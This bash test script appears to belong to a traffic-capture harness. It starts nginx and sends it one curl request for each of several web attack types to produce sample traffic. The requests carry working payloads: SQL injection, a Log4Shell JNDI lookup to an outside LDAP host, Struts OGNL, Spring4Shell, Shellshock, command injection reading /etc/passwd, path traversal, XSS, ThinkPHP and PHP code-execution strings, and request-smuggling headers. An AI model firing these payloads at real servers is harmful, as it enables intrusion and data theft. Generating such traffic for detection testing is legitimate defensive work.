#!/bin/bash
# curl sends nginx one attack of each kind, each on a connection of its own.
. "$(dirname "$0")/../../stage.sh"
use nginx
nginx_serve 80
capture
ask() { on_client curl -s --path-as-is -o /dev/null "$@" || true; }
url="http://$server_ip"
ask -G "$url/item" --data-urlencode "id=1' OR '1'='1"
ask -d "user=admin'--&pass=x" "$url/login"
ask -H 'User-Agent: ${${lower:j}ndi:ldap://192.0.2.1/a}' "$url/"
ask -H "Content-Type: %{(#_='multipart/form-data').(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd))}" "$url/upload.action"
ask -d 'class.module.classLoader.resources.context.parent.pipeline.first.prefix=x' "$url/form"
ask -A '() { :;}; /bin/id' "$url/cgi-bin/status"
ask -G "$url/ping" --data-urlencode 'host=127.0.0.1; cat /etc/passwd'
ask "$url/static/../../../etc/passwd"
ask -G "$url/search" --data-urlencode 'q=<script>alert(1)</script>'
ask "$url/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars\[0\]=phpinfo&vars\[1\]\[\]=1"
ask -d '_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id' "$url/index.php?s=captcha"
ask -G "$url/page" --data-urlencode "name='.passthru(\$_GET[c]).'"
ask -A 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000562)' "$url/"
ask -H 'Content-Length: -5' -X POST "$url/"
ask -H 'Transfer-Encoding: chunked' -H 'Content-Length: 4' --data-binary x "$url/"
ask -H 'Transfer-Encoding: xchunked' -X POST "$url/"
finish
